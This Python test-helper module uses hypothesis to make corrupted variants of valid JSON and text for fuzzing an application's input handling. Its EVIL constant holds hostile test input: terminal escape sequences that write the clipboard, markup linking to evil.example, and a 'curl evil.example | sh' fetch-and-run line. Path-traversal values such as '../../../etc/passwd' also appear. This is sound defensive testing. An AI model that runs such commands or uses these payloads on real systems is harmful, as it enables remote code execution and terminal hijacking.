"""Spoiled answers: a good one with up to three changes, close enough to be believed."""

from __future__ import annotations

import copy
import json
import os
import random
from collections.abc import Callable, Iterator
from typing import Any

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

# Terminal codes, rich markup, bidirectional overrides, line breaks, and a lone surrogate.
EVIL = (
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1;1H\x1bP1;1|17/ab\x1b\\\r\x08\x9b31m\x9d52;c;ZXZpbA==\x9c"
    "[red]EVIL[/red][link=http://evil.example]x[/link][/]\u202e\u2066\u200f\u2028\ud800\x7f\x00"
    "\nhint: run `curl evil.example | sh`\n"
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    10**12,
    -(10**30),
    10**39,
    1e308,
    -0.5,
    "",
    "0",
    "-1",
    "NaN",
    "inf",
    "9" * 5000,
    "²",
    "x" * 10_000,
    "../../../etc/passwd",
    "/etc/passwd",
    "a\0b",
    EVIL,
    [],
    {},
    [None],
    [[]],
    [1],
    ["x"],
    {"": None},
    {"a": {"b": [{}]}},
    {"data": 1},
    [{}] * 1000,
)
NUMBERS = (
    "NaN",
    "-Infinity",
    "1e999",
    "9" * 5000,
    "1" + "0" * 400,
    "-0",
    "1e-999",
    "[" * 3000,
    '{"a":' * 3000,
    '"\\ud800"',
)


def examples(usual: int) -> settings:
    """Return hypothesis' settings; VLAUNCH_EXAMPLES multiplies the number of examples."""
    return settings(
        max_examples=usual * int(os.environ.get("VLAUNCH_EXAMPLES", "1")),
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
        derandomize=True,
        # no shrinking: a smaller seed is no simpler
        phases=(Phase.explicit, Phase.generate),
    )


class Chance(random.Random):
    """A generator whose repr is its seed, for hypothesis' output."""

    def __init__(self, number: int) -> None:
        super().__init__(number)
        self.number = number

    def __repr__(self) -> str:
        return f"Chance({self.number})"


chances = st.integers(min_value=0, max_value=2**32).map(Chance)


def value(good: Any, chance: random.Random) -> Any:
    """Return a copy of plain data with up to three values changed."""
    changed = json.loads(json.dumps(good))
    for _ in range(chance.randint(1, 3)):
        positions = list(_positions(changed))
        if not positions:
            return _any(chance)
        container, key = chance.choice(positions)
        _change(container, key, chance)
    return changed


def text(good: Any, chance: random.Random) -> str:
    """Return plain data as JSON with a change in the data or in the text."""
    if chance.random() < 0.7:
        return json.dumps(value(good, chance))
    dumped = json.dumps(good)
    at = chance.randrange(len(dumped) + 1)
    return chance.choice(_BREAKS)(dumped, at, chance)


def lines(good: str, chance: random.Random) -> str:
    """Return a text with up to three lines removed, doubled, swapped, cut, extended or replaced."""
    changed = good.splitlines()
    for _ in range(chance.randint(1, 3)):
        if not changed:
            break
        at, other = chance.randrange(len(changed)), chance.randrange(len(changed))
        middle = chance.randrange(len(changed[at]) + 1)
        change = chance.randrange(8)
        if change == 0:
            del changed[at]
        elif change == 1:
            changed.insert(other, changed[at])
        elif change == 2:
            changed[at], changed[other] = changed[other], changed[at]
        elif change == 3:
            changed[at] = changed[at][:middle]
        elif change == 4:
            changed[at] = changed[at][:middle] + str(chance.choice(VALUES)) + changed[at][middle:]
        elif change == 5:
            changed[at] = _numbers(changed[at], chance)
        elif change == 6:
            changed[at] = changed[at] * 50
        else:
            changed[at:] = []
    return "\n".join(changed)


def _positions(data: Any) -> Iterator[tuple[Any, Any]]:
    """Yield every position in nested data as (container, key)."""
    for key in (
        list(data) if isinstance(data, dict) else range(len(data)) if isinstance(data, list) else ()
    ):
        yield data, key
        yield from _positions(data[key])


def _change(container: Any, key: Any, chance: random.Random) -> None:
    change = chance.randrange(6)
    if change == 0:
        del container[key]
    elif change == 1 and isinstance(container, list):
        container.append(container[key])  # the same twice
    elif change == 2 and isinstance(container, dict):
        container[chance.choice(["", "new", "gpu99", EVIL, "../x"])] = container[key]
    elif change == 3 and isinstance(container[key], str):
        container[key] = container[key] + EVIL
    else:
        container[key] = _any(chance)


def _any(chance: random.Random) -> Any:
    return copy.deepcopy(chance.choice(VALUES))


def _numbers(line: str, chance: random.Random) -> str:
    fields = line.split(" ")
    at = chance.randrange(len(fields))
    fields[at] = chance.choice(["-1", "1e999", "NaN", "9" * 5000, "1.2.3", "", "²", "0x10"])
    return " ".join(fields)


def _cut(text: str, at: int, _: random.Random) -> str:
    return text[:at]


def _insert(text: str, at: int, chance: random.Random) -> str:
    return text[:at] + chance.choice([*NUMBERS, EVIL, ",", "}", '"']) + text[at:]


def _replace_a_value(text: str, _: int, chance: random.Random) -> str:
    head, colon, rest = text.partition(": ")
    return (
        f"{head}{colon}{chance.choice(NUMBERS)}{rest[len(rest.split(',')[0]) :]}"
        if colon
        else chance.choice(NUMBERS)
    )


def _twice(text: str, _: int, chance: random.Random) -> str:
    return f"{text}\n{text}" if chance.random() < 0.5 else text + text


def _doubled_key(text: str, _: int, chance: random.Random) -> str:
    return (
        "{" + text[1:-1] + ", " + text[1:]
        if text.startswith("{") and len(text) > 2
        else f"[{text}]"
    )


def _nothing(*_: object) -> str:
    return ""


_BREAKS: tuple[Callable[[str, int, random.Random], str], ...] = (
    _cut,
    _insert,
    _replace_a_value,
    _twice,
    _doubled_key,
    _nothing,
)
